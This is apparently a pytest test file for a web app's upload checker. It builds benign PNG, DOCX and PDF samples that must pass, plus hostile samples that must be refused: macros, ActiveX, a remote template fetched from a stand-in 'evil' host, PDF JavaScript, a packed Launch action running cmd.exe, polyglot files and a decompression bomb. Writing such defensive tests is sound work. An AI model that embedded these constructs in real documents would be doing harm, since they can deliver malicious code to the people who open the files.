"""What is taken in as a file, and which sentence a clerk reads when it is not (IN-13)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
import typst

from webapp.cases.filetypes import checked_type
from webapp.core.errors import Invalid


def chunk(kind, data):
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    )


def png(*, comment=b""):
    rows = b"".join(b"\0" + b"\x80\x20\x10" * 20 for _row in range(20))
    head = struct.pack(">IIBBBBB", 20, 20, 8, 2, 0, 0, 0)
    said = chunk(b"tEXt", b"Comment\0" + comment) if comment else b""
    body = chunk(b"IHDR", head) + said + chunk(b"IDAT", zlib.compress(rows))
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IEND", b"")


def archive(entries, *, locked=False):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    content = bytearray(out.getvalue())
    if locked:  # the flag “encrypted” of every entry, in the list at the end
        place = content.find(b"PK\x01\x02")
        while place >= 0:
            content[place + 8] |= 1
            place = content.find(b"PK\x01\x02", place + 4)
    return bytes(content)


def docx(**more):
    return archive({"[Content_Types].xml": "<x/>", "word/document.xml": "<x/>", **more})


def pdf(extra=b""):
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n"
        + extra
        + b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def packed(objects):
    content = zlib.compress(objects)
    head = b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(
        content
    )
    return head + content + b"\nendstream endobj\n"


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SEALED = OLD + "EncryptedPackage".encode("utf-16-le") + b"\0" * 64
TEMPLATE = '<Relationship Type="x/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("照片.png", png()),
        ("有说明.png", png(comment=b"Huawei camera, xpacket")),
        ("申请表.docx", docx()),
        ("带图.docx", docx(**{"word/media/image1.png": png()})),
        ("表.pdf", pdf()),
        ("名单.pdf", pdf(packed(b"3 0 <</Type/Page>>"))),
        ("发票.pdf", pdf(b"4 0 obj<</Type/EmbeddedFile>>stream\n<a/>\nendstream endobj\n")),
        ("排版.pdf", typst.compile("普通 text".encode(), format="pdf")),
    ],
    ids=[
        "png",
        "png with words",
        "docx",
        "docx with picture",
        "pdf",
        "packed",
        "invoice",
        "set",
    ],
)
def test_an_ordinary_file_is_taken(tmp_path, name, content):
    path = tmp_path / "kept"
    path.write_bytes(content)
    assert checked_type(name, path)


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("密.pdf", pdf(b"5 0 obj<</Encrypt 6 0 R>>endobj\n"), "加了密码"),
        ("密.docx", SEALED, "加了密码"),
        ("密表.docx", archive({"word/document.xml": "<x/>"}, locked=True), "加了密码"),
        ("旧.doc", OLD, "旧版"),
        ("宏.docm", docx(**{"word/vbaProject.bin": "x"}), "宏"),
        ("控件.docx", docx(**{"word/activeX/activeX1.bin": "x"}), "宏"),
        ("模板.docx", docx(**{"word/_rels/settings.xml.rels": TEMPLATE}), "宏"),
        ("脚本.pdf", pdf(b"7 0 obj<</S/JavaScript/JS(x)>>endobj\n"), "脚本"),
        ("改名.pdf", pdf(b"7 0 obj<</S/J#61vaScript>>endobj\n"), "脚本"),
        ("藏.pdf", pdf(packed(b"8 0 <</S/Launch/F(cmd.exe)>>")), "脚本"),
        ("两面.png", png() + archive({"a.class": "x"}), "ZIP"),
        ("两面.pdf", pdf() + archive({"a.jar": "x"}), "ZIP"),
        ("网页.png", png(comment=b"<script>alert(1)</script>"), "HTML"),
        ("藏文.png", png(comment=b"%PDF-1.4 x"), "PDF"),
        ("改名.jpg", png(), "其实是PNG"),
        ("大.docx", docx(**{"word/media/big.bmp": b"\0" * 310 * 1024 * 1024}), "不合常理"),
        ("断.docx", docx()[:-30], "不是可以收的"),
    ],
    ids=[
        "pdf with password", "docx with password", "locked entry", "old word", "macros",
        "activex", "template from outside", "javascript", "javascript spelled", "launch packed",
        "png and zip", "pdf and zip", "png and page", "png and pdf", "renamed", "bomb", "cut off",
    ],
)  # fmt: skip
def test_a_file_that_could_do_harm_is_refused_by_name_and_with_advice(
    tmp_path, name, content, words
):
    path = tmp_path / "kept"
    path.write_bytes(content)
    with pytest.raises(Invalid) as refusal:
        checked_type(name, path)
    assert words in refusal.value.errors["file"]
    assert name in refusal.value.errors["file"]
